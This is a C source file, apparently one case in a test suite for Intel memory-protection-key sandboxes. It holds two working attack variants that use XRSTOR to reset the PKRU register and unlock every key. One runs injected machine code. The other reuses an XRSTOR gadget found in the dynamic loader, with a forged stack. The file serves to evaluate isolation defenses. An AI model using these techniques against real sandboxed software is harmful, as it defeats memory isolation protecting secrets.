/* A2: XRSTOR loads PKRU too, when bit 9 of the mask in EDX:EAX is set. From a memory
 * image that says "initial state", PKRU becomes 0: every key open.
 *
 * loader: not an instruction of ours but the dynamic loader's own, in the code that
 * binds functions lazily; it goes on to jump through r11, with rsp from rbx.
 *
 * Source: [PKU Pitfalls], [SDM 1 13.8] init optimisation.
 */
#include <elf.h>
#include <setjmp.h>
#include <sys/auxv.h>
#include "attack.h"
#include "machinecode.h"

#define PKRU_COMPONENT (1u << 9)
#define IMAGE_BYTES 16384

static unsigned char image[IMAGE_BYTES] __attribute__((aligned(64))); /* zero: everything initial */
static jmp_buf back;

static const unsigned char xrstor_rdi[] = {0xb8, 0, 2, 0, 0, 0x31, 0xd2,  /* mov eax, 1 << 9; xor edx, edx */
                                           0x0f, 0xae, 0x2f, 0xc3}; /* xrstor [rdi]; ret */
static void *code;

static void map_code(void) { code = machinecode_map(xrstor_rdi, sizeof xrstor_rdi); }

static void own(void) {
    ((void (*)(void *))(uintptr_t)code)(image);
    attack_read();
}

static void __attribute__((force_align_arg_pointer)) arrived(void) {
    attack_read();
    longjmp(back, 1);
}

/* The loader's code, by its program headers. */
static const unsigned char *loader_xrstor(void) {
    const Elf64_Ehdr *loader = (const Elf64_Ehdr *)getauxval(AT_BASE);
    const Elf64_Phdr *segment = (const Elf64_Phdr *)((uintptr_t)loader + loader->e_phoff);
    static const char xrstor_rsp_0x40[] = "\x0f\xae\x6c\x24\x40";
    for (int i = 0; i < loader->e_phnum; i++)
        if (segment[i].p_type == PT_LOAD && segment[i].p_flags & PF_X)
            return machinecode_find((const void *)((uintptr_t)loader + segment[i].p_vaddr), segment[i].p_memsz,
                                    xrstor_rsp_0x40, 5);
    return NULL;
}

/* Where it was before any policy: what is there now, the attacker takes as it is. */
static const unsigned char *xrstor;

static void find_loader(void) { xrstor = loader_xrstor(); }

static void loader(void) {
    if (!xrstor) {
        attack_refused("loader", ENOENT); /* a loader without such code: nothing was tested */
        return;
    }
    if (setjmp(back)) return;
    __asm__ volatile("mov %0, %%rbx\n\tmov %0, %%rsp\n\tmov %1, %%r10\n\tmov %2, %%r11\n\t"
                     "mov %3, %%eax\n\txor %%edx, %%edx\n\tjmp *%%r10"
                     :
                     : "r"(image + IMAGE_BYTES / 2), "r"(xrstor), "r"(arrived), "i"(PKRU_COMPONENT)
                     : "memory", "rax", "rdx", "r10", "r11");
    __builtin_unreachable();
}

const struct attack attacks[] = {
    {.variant = "own", .prepare = map_code, .attack = own},
    {.variant = "loader", .prepare = find_loader, .attack = loader},
    {0},
};
